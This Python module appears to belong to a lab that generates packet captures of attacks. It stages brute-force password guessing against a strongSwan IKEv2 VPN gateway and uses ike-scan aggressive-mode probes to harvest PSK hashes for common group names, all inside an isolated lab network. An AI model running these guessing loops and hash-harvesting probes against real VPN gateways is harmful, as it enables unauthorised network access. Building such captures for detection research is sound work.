"""Password guessing at a VPN gateway (strongSwan, IKEv2 with EAP-MSCHAPv2) until one is correct; ike-scan tries group
names in IKEv1 aggressive mode. Needs strongswan-starter, libcharon-extauth-plugins, ike-scan.

Run it as ``python -m pcaps.lab.attacks.vpn [SCENE...]``.
"""

from __future__ import annotations

import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Host, Lab, record
from pcaps.lab._programs import ACCOUNT, PASSWORD
from pcaps.lab.attacks.password_guessing import PASSWORDS

NAME = "vpn.example.org"
GROUPS = ("vpn", "staff", "sales", "remote", "employees", "contractors", "admin", "group1", "default", "cisco")
PLUGINS = (
    "aes sha1 sha2 md4 md5 des fips-prf hmac kdf openssl nonce random x509 pubkey pkcs1 pem curve25519 stroke "
    "socket-default kernel-netlink eap-identity eap-mschapv2 constraints"
)
GATEWAY = f"""conn office
  keyexchange=ikev2
  left=%defaultroute
  leftid={NAME}
  leftcert=gateway.pem
  leftsendcert=always
  leftsubnet=10.20.0.0/16
  right=%any
  rightauth=eap-mschapv2
  rightsourceip=10.97.0.0/24
  eap_identity=%any
  auto=add
conn groups
  keyexchange=ikev1
  aggressive=yes
  left=%defaultroute
  leftauth=psk
  right=%any
  rightauth=psk
  auto=add
"""
CLIENT = f"""conn office
  keyexchange=ikev2
  left=%defaultroute
  leftid={ACCOUNT}
  leftauth=eap-mschapv2
  eap_identity={ACCOUNT}
  leftsourceip=%config
  right={{gateway}}
  rightid={NAME}
  rightauth=pubkey
  rightsubnet=0.0.0.0/0
  auto=add
"""


def _daemon(lab: Lab, host: Host, connections: str, secrets: str) -> tuple[Path, str]:
    """Writes the configuration of strongSwan. Returns its folder, and shell commands that mount it over /etc, with an
    empty /run.
    """
    folder = lab.folder / host.name
    (folder / "ipsec.d" / "private").mkdir(parents=True)
    for name in ("certs", "cacerts"):
        (folder / "ipsec.d" / name).mkdir()
    (folder / "ipsec.conf").write_text(connections, encoding="ascii")
    (folder / "ipsec.secrets").write_text(secrets, encoding="ascii")
    options = f"charon {{\n load = {PLUGINS}\n i_dont_care_about_security_and_use_aggressive_mode_psk = yes\n}}\n"
    (folder / "strongswan.conf").write_text(options, encoding="ascii")
    return folder, f"mount -t tmpfs none /run && mount -t overlay none -o lowerdir={folder}:/etc /etc"


def _gateway(lab: Lab) -> Host:
    host = lab.host("gateway", "10.20.10.7")
    folder, mount = _daemon(lab, host, GATEWAY, f': RSA key.pem\n{ACCOUNT} : EAP "{PASSWORD}"\n: PSK "{PASSWORD}"\n')
    key, cert = folder / "ipsec.d/private/key.pem", folder / "ipsec.d/certs/gateway.pem"
    subject = ("-subj", f"/CN={NAME}", "-addext", f"subjectAltName=DNS:{NAME}")
    make = ("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(cert))
    subprocess.run((*make, *subject), check=True, capture_output=True)
    lab.start(host, "sh", "-c", f"{mount} && exec /usr/lib/ipsec/starter --nofork", port=500, proto="udp")
    return host


def passwords(lab: Lab) -> Iterator[None]:
    """Logins in sequence; the last password is correct."""
    gateway, attacker = _gateway(lab), lab.host("attacker", "10.20.10.66")
    folder, mount = _daemon(lab, attacker, CLIENT.format(gateway=gateway.ip), "")
    certificate = lab.folder / "gateway/ipsec.d/certs/gateway.pem"
    (folder / "ipsec.d/cacerts/gateway.pem").write_bytes(certificate.read_bytes())
    yield
    candidates = shlex.join((*PASSWORDS[:20], PASSWORD))
    attempts = (
        f"sleep 3; for word in {candidates}; do echo '{ACCOUNT} : EAP \"'$word'\"' > /run/secrets; "
        "/usr/lib/ipsec/stroke rereadsecrets; /usr/lib/ipsec/stroke up office; done"
    )
    (folder / "ipsec.secrets").write_text("include /run/secrets\n", encoding="ascii")
    start = "touch /run/secrets; /usr/lib/ipsec/starter --nofork & "
    lab.run(attacker, "unshare", "-m", "sh", "-c", f"{mount} && {{ {start} {attempts}; kill $!; wait; }}", timeout=200)


def groups(lab: Lab) -> Iterator[None]:
    """A list of group names; each response contains a hash."""
    gateway, attacker = _gateway(lab), lab.host("attacker", "10.20.10.66")
    yield
    for name in GROUPS:
        lab.run(attacker, "ike-scan", "--aggressive", f"--id={name}", "--retry=1", gateway.ip)


if __name__ == "__main__":
    record(Path(__file__).parent, vpn_passwords=passwords, vpn_groups=groups)
